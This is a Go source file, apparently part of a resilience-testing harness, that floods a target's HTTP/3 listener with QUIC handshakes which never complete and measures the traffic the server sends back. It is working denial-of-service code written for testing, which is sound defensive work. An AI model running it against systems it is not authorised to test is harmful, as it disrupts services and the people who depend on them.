package testattack

import (
	"context"
	"errors"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/quic-go/quic-go"
)

// deafConn is a UDP socket that sends but never hands a packet to its
// reader: a QUIC client over it keeps sending Initials and never completes
// a handshake, as a flood of Initials from spoofed addresses never does.
// It hides the *net.UDPConn (it is a net.PacketConn only), so that quic-go
// cannot read around it with ReadMsgUDP. It counts what it drops.
type deafConn struct {
	net.PacketConn
	packets, bytes *atomic.Int64
}

func (c deafConn) ReadFrom(p []byte) (int, net.Addr, error) {
	for {
		n, _, err := c.PacketConn.ReadFrom(p)
		if err != nil {
			return 0, nil, err
		}
		c.packets.Add(1)
		c.bytes.Add(int64(n))
	}
}

// quicInitials starts p.QUICClients QUIC handshakes, each from its own UDP
// socket (on 50 client addresses), none of which ever reads a reply; each
// client gives up after p.QUICGiveUp.
func quicInitials(ctx context.Context, t Target, p Params, out *Outcome) error {
	if t.HTTP3 == "" {
		return errors.New("testattack: the target has no HTTP/3 listener")
	}
	raddr, err := net.ResolveUDPAddr("udp", t.HTTP3)
	if err != nil {
		return err
	}
	var packets, bytes atomic.Int64
	start := time.Now()
	var wg sync.WaitGroup
	sem := make(chan struct{}, 256) // sockets being opened at once
	for i := range p.QUICClients {
		select {
		case sem <- struct{}{}:
		case <-ctx.Done():
		}
		if ctx.Err() != nil {
			break
		}
		wg.Go(func() {
			udp, err := net.ListenUDP("udp", &net.UDPAddr{IP: source(blockQUIC, i%50)})
			<-sem
			if err != nil {
				out.Answers.Add("socket: "+err.Error(), 1)
				return
			}
			defer udp.Close()
			tr := &quic.Transport{Conn: deafConn{PacketConn: udp, packets: &packets, bytes: &bytes}}
			defer tr.Close()
			_, err = tr.Dial(ctx, raddr, t.attackTLS("h3"), &quic.Config{HandshakeIdleTimeout: p.QUICGiveUp})
			if err == nil {
				out.Answers.Add("handshake done", 1) // cannot be: nothing was read
				return
			}
			out.Answers.Add("gave up", 1)
		})
	}
	wg.Wait()
	out.Held = p.QUICClients
	out.Note("the edge sent %d packets (%.1f MB) to clients that never answered, in %v",
		packets.Load(), float64(bytes.Load())/1e6, time.Since(start).Round(100*time.Millisecond))
	return nil
}
